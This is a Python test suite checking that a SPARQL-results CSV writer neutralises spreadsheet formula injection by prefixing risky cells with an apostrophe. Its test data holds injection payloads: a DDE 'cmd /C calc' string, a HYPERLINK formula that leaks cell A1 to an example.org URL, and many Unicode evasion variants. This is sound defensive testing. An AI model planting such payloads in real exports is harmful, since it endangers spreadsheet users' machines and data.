"""CSV results: no cell is a formula to a spreadsheet, and nothing else differs."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pyoxigraph import Literal, QueryResultsFormat, QuerySolutions

from valuegraph.processes import Spool
from valuegraph.queries.csv_cells import CellWriter
from valuegraph.queries.sparql import CSV, JSON, TSV, Query, run_query
from valuegraph.store import OxigraphStore

BASE = "https://ledger.example/"
FORMULAS = {
    "=1+1": "'=1+1",
    '=HYPERLINK("http://example.org/?"&A1,"x")': '\'=HYPERLINK("http://example.org/?"&A1,"x")',
    "=1,2": "'=1,2",
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1)": "'@SUM(1)",
    "-INF": "'-INF",
    "-5 kilogram": "'-5 kilogram",
    "--5": "'--5",
    "+": "'+",
    "\uff1d1+1": "'\uff1d1+1",
    "a;=1+1;b": "a;'=1+1;b",
    ";=1": ";'=1",
    "a\t=1+1": "a\t'=1+1",
    "a; \u200b=1": "a;' \u200b=1",
    "a,=b": "a,'=b",
    "a\n=b": "a\n'=b",
    "a\r=b": "a\r'=b",
    '="a"\n=2': "'=\"a\"\n'=2",
    "-5\n=2": "'-5\n'=2",
    "-5;=2": "'-5;'=2",
    'a;"=1+1;b': "a;'\"=1+1;b",
    '"=1"': '\'"=1"',
    " =1": "' =1",
    "\ufeff=1": "'\ufeff=1",
    "\u200f\u2060 \u200b=1": "'\u200f\u2060 \u200b=1",
    "\xa0=1": "'\xa0=1",
    "\x00=1": "'\x00=1",
    "\t=1": "\t'=1",
    "\n=1": "\n'=1",
}
HARMLESS = [
    "",
    "a",
    "a=b",
    "5",
    "-5",
    "+1.5E3",
    "-.5",
    "1.0e-7",
    'a"=b',
    "a; b - c",
    "a, b",
    '";"',
    "'=1",
    "5-",
]
CHARACTERS = '=+-@\uff1d\t\r\n",;a1. \u200b\u200f\u2060\ufeff\xa0'


def rows(query: str) -> list[list[str]]:
    body = run_query(OxigraphStore(), Query(query, BASE, table=CSV)).body
    return list(csv.reader(io.StringIO(body.decode(), newline="")))


@pytest.mark.parametrize(("text", "written"), FORMULAS.items())
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text: str, written: str) -> None:
    value = Literal(text)
    found = rows(f"SELECT ({value} AS ?a) ({value} AS ?b) (1 AS ?c) {{ VALUES ?x {{ 1 2 }} }}")
    assert found == [["a", "b", "c"], *2 * [[written, written, "1"]]]


@pytest.mark.parametrize("text", HARMLESS)
def test_everything_else_is_as_it_is(text: str) -> None:
    value = Literal(text)
    assert rows(f"SELECT (1 AS ?a) ({value} AS ?b) {{}}")[1] == ["1", text]


def test_negative_numbers_stay_numbers() -> None:
    assert rows("SELECT (-5 AS ?a) (-1.5 AS ?b) (-1e3 AS ?c) {}")[1] == ["-5", "-1.5", "-1000"]


def test_other_formats_are_exact() -> None:
    query = 'SELECT ("=1" AS ?a) {}'
    assert run_query(OxigraphStore(), Query(query, BASE, table=TSV)).body == b'?a\n"=1"\n'
    assert b'"value":"=1"' in run_query(OxigraphStore(), Query(query, BASE, table=JSON)).body


STORE = OxigraphStore()
tables = st.lists(st.lists(st.text(CHARACTERS), min_size=2, max_size=2), max_size=5)


def written(table: list[list[str]], size: int) -> str:
    """The CSV of a table that the writer gets in pieces of a size."""
    values = " ".join(f"({' '.join(str(Literal(cell)) for cell in row)})" for row in table)
    solutions = STORE.query(f"SELECT * {{ VALUES (?a ?b) {{ {values} }} }}", BASE)
    assert isinstance(solutions, QuerySolutions)
    serialized = solutions.serialize(format=QueryResultsFormat.CSV)
    assert serialized is not None
    spool = Spool(1 << 20)
    cells = CellWriter(spool)
    for start in range(0, len(serialized), size):
        cells.write(serialized[start : start + size])
    cells.finish()
    return spool.memory.decode()


@given(tables, st.integers(1, 9))
def test_however_the_table_comes_in_pieces(table: list[list[str]], size: int) -> None:
    text = written(table, size)
    assert text == written(table, 1 << 20)
    found = list(csv.reader(io.StringIO(text, newline="")))
    assert len(found) == 1 + len(table)
    for row, expected in zip(found[1:], table, strict=True):
        for cell, given_ in zip(row, expected, strict=True):
            assert cell.replace("'", "") == given_


@given(tables)
def test_wherever_a_spreadsheet_splits_no_cell_starts_like_a_formula(
    table: list[list[str]],
) -> None:
    text = written(table, 1 << 20)
    cells = re.split(r"[,;\t\r\n]", text)
    for separator in ",;\t":
        lines = csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        whole = [cell for line in lines for cell in line]
        cells += [piece for cell in whole for piece in re.split(r"[,;\t\r\n]", cell)]
        if separator == ",":
            cells += whole
    for cell in cells:
        if not re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", cell):
            assert not re.match('[ \xa0\u200b\u200f\u2060\ufeff"]*[=+\\-@\uff1d]', cell)


def test_a_cell_of_many_pieces_takes_time_in_proportion() -> None:
    spool = Spool(1 << 30)
    cells = CellWriter(spool)
    cells.write(b'a\r\n"')
    for _ in range(4000):
        cells.write(b"= " * 4096)
    cells.write(b'"\r\n')
    cells.finish()
    size = spool.size
    spool.close()
    assert size == len('a\r\n"') + len("'") + 4000 * 8192 + len('"\r\n')


def test_iris_are_cells_too() -> None:
    store = OxigraphStore()
    body = run_query(
        store, Query("SELECT (STR(<urn:a>) AS ?a) (<urn:=a> AS ?b) {}", BASE, table=CSV)
    )
    assert body.body == b"a,b\r\nurn:a,urn:=a\r\n"
